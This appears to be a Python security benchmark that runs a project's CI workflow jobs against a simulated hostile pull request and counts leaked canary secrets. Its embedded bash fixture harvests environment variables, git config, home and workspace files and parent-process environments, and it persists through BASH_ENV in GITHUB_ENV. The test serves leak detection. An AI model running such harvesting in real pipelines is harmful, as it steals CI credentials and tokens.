"""Does a hostile pull request see a secret? Runs the workflows' jobs with canaries for secrets.

    python tests/benchmarks/review_fork.py          one line
    python tests/benchmarks/review_fork.py --json

The measuring job runs with code of a pull request that takes whatever it can reach: every
variable, every file of the home, the workspace and the temporary folder, git's configuration,
the environment of each process above it, and the steps that come after it. It puts all of it
into the bundle. Then the reporting job runs on that bundle. A canary anywhere in the bundle, the
logs or the summaries counts.
"""

import json
import shutil
import stat
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from artifact_host import artifact_host, one_run
from figures import Figure, present
from workflow_run import REPOSITORY, WORKFLOWS, Document, Finished, World, load, run_job, runs

SHA = "1f" * 20
_LOOT = r"""
take() {
  env
  git config --list --show-origin 2>/dev/null
  find "$HOME" "$GITHUB_WORKSPACE" "$RUNNER_TEMP" -type f -size -64k -exec cat {} + 2>/dev/null
  local process=$$
  while [ "${process:-0}" -gt 1 ]; do
    tr '\0' '\n' <"/proc/$process/environ" 2>/dev/null
    process=$(sed -n 's/^PPid:\s*//p' "/proc/$process/status" 2>/dev/null)
  done
}
"""
_HOSTILE = f"""#!/usr/bin/env bash
# What hostile code inside of a model or a metric can do while `weighin sync` runs.
{_LOOT}
if [[ $1 == sync ]]; then
  mkdir -p .weighin/runs/evil/v1/evidence
  take | python3 -c 'import json, sys
json.dump({{"model": "evil", "version": "1", "loot": sys.stdin.read()}}, sys.stdout)
' >.weighin/runs/evil/v1/report.json
  cat >"$HOME/later.sh" <<'END'
{_LOOT}
take >"$HOME/later.txt" 2>/dev/null || true
END
  echo "BASH_ENV=$HOME/later.sh" >>"$GITHUB_ENV"
  cat .weighin/runs/evil/v1/report.json
  exit 0
fi
exec "$WEIGHIN_REAL" "$@"
"""
_RECORDER = """#!/usr/bin/env bash
# `weighin review` is not run here; what it would be called with is printed.
if [[ $1 == review ]]; then
  printf 'review %s\\n' "$*"
  cat "${@: -1}"/*/*.json 2>/dev/null | head -c 200
  exit 3
fi
exec "$WEIGHIN_REAL" "$@"
"""


def fork_secrets_seen() -> int:
    """How many canaries end up where somebody outside can read them, over both jobs."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        measured = _measure(folder, _unchanged)
        reported = _report(folder, measured.uploads["weighin-bundle"])
        if "review --repo octo/models --pull 7" not in reported.text:
            raise RuntimeError(f"nothing was reported: {reported.text}")
        return _seen([*_public(folder, measured), reported.text])


def seen_in_measuring(change: Callable[[Document], None]) -> int:
    """The same for the measuring job alone, changed first: to see that a leak would be noticed."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        return _seen(_public(folder, _measure(folder, change)))


def _unchanged(job: Document) -> None:
    """The job as it is."""


def _public(folder: Path, measured: Finished) -> list[str]:
    """What anybody can read of the measuring job, and what its hostile code wrote down later."""
    bundle = measured.uploads["weighin-bundle"]
    files = [path for path in bundle.rglob("*") if path.is_file()]
    later = folder / "fork" / "home" / "later.txt"
    files += [later] if later.exists() else []
    public = [measured.text, *(path.read_text(errors="replace") for path in files)]
    if not any("loot" in text for text in public):
        raise RuntimeError(f"the hostile code did not run: {measured.text}")
    return public


def _seen(public: list[str]) -> int:
    return sum(canary in text for canary in (*_secrets().values(), *_TOKENS) for text in public)


_TOKENS = ("canary-of-the-fork-token", "canary-of-the-reporting-token")


def _secrets() -> dict[str, str]:
    """A canary for every secret that any workflow names, and some that people have besides."""
    named = {
        name
        for path in WORKFLOWS.glob("*.yml")
        for name in load(path)["on"].get("workflow_call", {}).get("secrets", {})
    }
    return {name: f"canary-of-{name}" for name in (*sorted(named), "NPM_TOKEN", "GITHUB_TOKEN")}


def _measure(folder: Path, change: Callable[[Document], None]) -> Finished:
    job = load(WORKFLOWS / "weigh.yml")["jobs"]["measure"]
    change(job)
    event: dict[str, Any] = {"pull_request": {"number": 7}}
    world = World(
        folder=_made(folder / "fork"),
        event_name="pull_request",
        event=event,
        secrets=_secrets(),
        token=_TOKENS[0],
        checkouts={"": _project(folder / "pull")},
        path=(_tool(folder / "hostile", _HOSTILE),),
        environ={"WEIGHIN_REAL": _real()},
        inputs={"weighin-version": "installed"},
    )
    if not runs(job, world):
        raise RuntimeError("the measuring job does not run for a pull request")
    return run_job(job, world)


def _report(folder: Path, bundle: Path) -> Finished:
    job = load(WORKFLOWS / "report.yml")["jobs"]["report"]
    with artifact_host() as host:
        event = one_run(host, SHA)
        host.packed = packed(bundle)
        (folder / "event.json").write_text(json.dumps(event))
        world = World(
            folder=_made(folder / "base"),
            event_name="workflow_run",
            event=event,
            secrets=_secrets(),
            token=_TOKENS[1],
            checkouts={"main": _project(folder / "main")},
            path=(_tool(folder / "recorder", _RECORDER),),
            environ={
                "WEIGHIN_REAL": _real(),
                "GITHUB_API_URL": host.address,
                "GITHUB_EVENT_PATH": str(folder / "event.json"),
            },
            inputs={"weighin-version": "installed"},
        )
        return run_job(job, world)


def packed(bundle: Path) -> bytes:
    """A folder as the zip that an artifact is."""
    with tempfile.TemporaryFile() as file:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for path in sorted(bundle.rglob("*")):
                archive.write(path, path.relative_to(bundle))
        file.seek(0)
        return file.read()


def _made(folder: Path) -> Path:
    folder.mkdir()
    return folder


def _tool(folder: Path, script: str) -> Path:
    folder.mkdir()
    path = folder / "weighin"
    path.write_text(script)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return folder


def _project(folder: Path) -> Path:
    """A repository with a small project, which is its own origin and has no channel yet."""
    folder.mkdir()
    (folder / "weighin.toml").write_text('[channel]\nname = "dev"\n')
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@y.z"]
    for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "start"]):
        subprocess.run([*git, *command], cwd=folder, check=True)
    subprocess.run(["git", "remote", "add", "origin", str(folder)], cwd=folder, check=True)
    return folder


def _real() -> str:
    """The `weighin` of this environment."""
    found = REPOSITORY / ".venv" / "bin" / "weighin"
    name = str(found) if found.exists() else shutil.which("weighin")
    if name is None:
        raise RuntimeError("weighin is not installed")
    return name


def measure() -> list[Figure]:
    """The one figure of this file."""
    return [
        Figure(
            name="fork_secrets_seen",
            value=fork_secrets_seen(),
            goal=0,
            detail=f"{len(_secrets()) + len(_TOKENS)} canaries; bundle, logs, summaries searched",
        )
    ]


if __name__ == "__main__":
    present(measure, __doc__)
